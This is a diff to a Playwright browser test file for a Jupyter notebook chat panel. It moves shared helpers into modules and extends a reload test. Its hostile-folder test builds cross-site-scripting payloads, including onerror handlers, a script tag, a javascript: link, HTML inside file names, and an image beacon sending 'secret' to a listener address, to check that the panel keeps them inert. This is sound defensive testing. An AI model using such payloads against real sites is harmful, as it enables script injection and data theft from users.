@@ -14,45 +14,21 @@ import pytest
 from playwright.sync_api import Locator, Page, expect
 
 from tests.browser.conftest import SCREENSHOTS, START_SECONDS, take_screenshot
+from tests.browser.hostile_folder import QUESTION as HOSTILE_QUESTION
+from tests.browser.hostile_folder import write_hostile_folder
+from tests.browser.scripted_panel import (
+    QUESTION,
+    ROOT,
+    SAMPLE,
+    SCRIPTED,
+    SHOWN_MILLISECONDS,
+    ask,
+    make_brain,
+    stop_the_answer,
+    wait_for_panel,
+)
 
-ROOT = Path(__file__).parents[2]
-SAMPLE = ROOT / "notebooks" / "sample"
-SHOWN_MILLISECONDS = 180_000
 ANSWER_MILLISECONDS = 400_000
-QUESTION = "What does a student pay for a night at the station?"
-
-SCRIPTED = f"""
-import sys, time
-sys.path.insert(0, {str(ROOT)!r})
-import locallens_nb
-from locallens_nb.locallens import LocalLensApp
-from locallens_nb.settings import Settings
-from tests.fakes import FakeModels, Script, ScriptedChatModel
-
-class PacedModel(ScriptedChatModel):
-    def generate(self, request):
-        generation = super().generate(request)
-        pieces = generation._pieces
-
-        def paced():
-            for piece in pieces:
-                yield piece
-                time.sleep(0.05)
-
-        generation._pieces = paced()
-        return generation
-
-ANSWER = '''A student pays **BRL 60** a night [1]. A room costs $5 less, later $10.
-
-```python
-print("a block of code")
-```
-'''
-LONG = [f'Sentence number {{n}} is about a night at the station. ' for n in range(2000)]
-chat = PacedModel(Script([f'{{word}} ' for word in ANSWER.split(' ')]), Script(LONG), Script(['It is BRL 60 [1].']))
-models = FakeModels(chat=chat, fallback_reason='Qwen3-1.7B does not fit in memory.')
-app = LocalLensApp(Settings(strictness="off"), models=models)
-"""
 
 OpenNotebook = Callable[[str, list[str]], Page]
 
@@ -68,47 +44,6 @@ def panel_in(open_notebook: OpenNotebook, lab_folder: Path) -> Callable[..., tup
         return page, wait_for_panel(page)
 
     return open_panel
-
-
-def wait_for_panel(page: Page) -> Locator:
-    panel = page.locator(".locallens-panel").first
-    panel.get_by_role("button", name="Send").wait_for(timeout=SHOWN_MILLISECONDS)
-    panel.scroll_into_view_if_needed()
-    return panel
-
-
-def make_brain(panel: Locator, folder: str, name: str) -> None:
-    """Make a brain by hand, with the form that is open when there is none yet."""
-    if panel.get_by_role("button", name="New brain").is_enabled():
-        panel.get_by_role("button", name="New brain").click()
-    panel.get_by_label("In it").select_option(folder)
-    expect(panel.get_by_label("Name", exact=True)).to_have_value(folder)
-    panel.get_by_label("Name", exact=True).fill(name)
-    panel.get_by_label("Name", exact=True).press("Tab")
-    panel.get_by_role("button", name="Create brain").click()
-    expect(panel).to_contain_text(f"Indexed '{name}'", timeout=SHOWN_MILLISECONDS)
-
-
-def ask(panel: Locator, question: str) -> None:
-    box = panel.get_by_role("textbox").last
-    box.fill(question)
-    box.press("Enter")
-
-
-def stop_the_answer(panel: Locator) -> float:
-    """Press Stop and return how many seconds it took until the next question could be sent, as the page measures it."""
-    return float(
-        panel.evaluate(
-            """panel => new Promise((resolve, reject) => {
-                const find = text => [...panel.querySelectorAll("button")].find(one => one.textContent === text && !one.hidden);
-                const pressed = performance.now();
-                find("Stop").click();
-                const look = () => find("Send") ? resolve((performance.now() - pressed) / 1000)
-                    : performance.now() - pressed > 30000 ? reject(new Error("it did not stop")) : setTimeout(look, 10);
-                look();
-            })"""
-        )
-    )
 
 
 def find_controls(panel: Locator, condition: str) -> list[str]:
@@ -180,6 +115,19 @@ def test_a_brain_is_made_asked_stopped_deleted_and_all_is_there_after_a_reload(
     panel = wait_for_panel(page)
     expect(panel).to_contain_text("It is BRL 60", timeout=SHOWN_MILLISECONDS)
     expect(panel).to_contain_text("Stopped before its end.")
+    ask(panel, "And after the page was loaded again?")
+    page.wait_for_function("() => document.querySelector('.locallens-transcript')?.textContent.includes('loaded again?')")
+    shown, kept = save_notebook(page, lab_folder / "scripted.ipynb").cells[1].outputs
+    assert "And after the page was loaded again?" in kept.data["text/plain"]
+    assert kept.data["text/html"].count("It is BRL 60") == 2
+    assert "application/vnd.jupyter.widget-view+json" in shown.data
+    expect(panel).to_contain_text("And after the page was loaded again?")
+    (lab_folder / "sample" / "new.md").write_text("A note that was not there.", encoding="utf-8")
+    panel.locator(".locallens-brain-name").click()
+    expect(panel.locator(".locallens-brain")).to_contain_text("1 new file", timeout=SHOWN_MILLISECONDS)
+    expect(panel.locator(".locallens-chip").first).to_have_text("stale")
+    take_screenshot(page, "panel-new-file")
+    (lab_folder / "sample" / "new.md").unlink()
     panel.get_by_role("button", name="Delete").click()
     take_screenshot(page, "panel-delete")
     panel.get_by_role("button", name="Yes, delete").click()
@@ -248,22 +196,13 @@ def test_nothing_in_a_hostile_folder_comes_alive_in_the_panel(
     panel_in: Callable[..., tuple[Page, Locator]], lab_folder: Path, listener: tuple[str, list[str]]
 ) -> None:
     address, asked = listener
-    folder = lab_folder / "hostile"
-    folder.mkdir()
-    hostile = (
-        f"The budget for 2031 is 48,000 euros <img src={address}/a.png onerror='window.pwned=1'>"
-        f" ![beacon]({address}/p.png?q=secret) <script>window.pwned=2</script> [click](javascript:window.pwned=3)"
-        " <iframe srcdoc='<script>parent.pwned=4</script>'></iframe> in all."
-    )
-    (folder / "a.md").write_text(f"# Budget\n\n{hostile}\n", encoding="utf-8")
-    (folder / "<img src=x onerror=pwned=5>.md").write_text("The goat of the station sleeps.", encoding="utf-8")
-    (folder / "<img src=x onerror=pwned=6>.png").write_bytes(b"\x89PNG")
+    hostile = write_hostile_folder(lab_folder / "hostile", address=address)
     script = f"models.chat = ScriptedChatModel(Script([{json.dumps(hostile + ' [1].')}]))"
     page, panel = panel_in("hostile-panel.ipynb", [SCRIPTED, script, "locallens_nb.panel(app)"])
     make_brain(panel, "hostile", "<img src=x onerror=pwned=7>")
-    panel.locator(".locallens-selected").get_by_role("button", name="Details").click()
+    panel.locator(".locallens-brain", has_text="onerror=pwned=7").get_by_role("button", name="Details").click()
     expect(panel).to_contain_text("<img src=x onerror=pwned=6>.png", timeout=SHOWN_MILLISECONDS)
-    ask(panel, "How many euros is the budget for 2031? <img src=x onerror=pwned=8>")
+    ask(panel, f"{HOSTILE_QUESTION} <img src=x onerror=pwned=8>")
     expect(panel).to_contain_text("Written by scripted", timeout=SHOWN_MILLISECONDS)
     for summary in panel.locator("summary").all():
         summary.click()
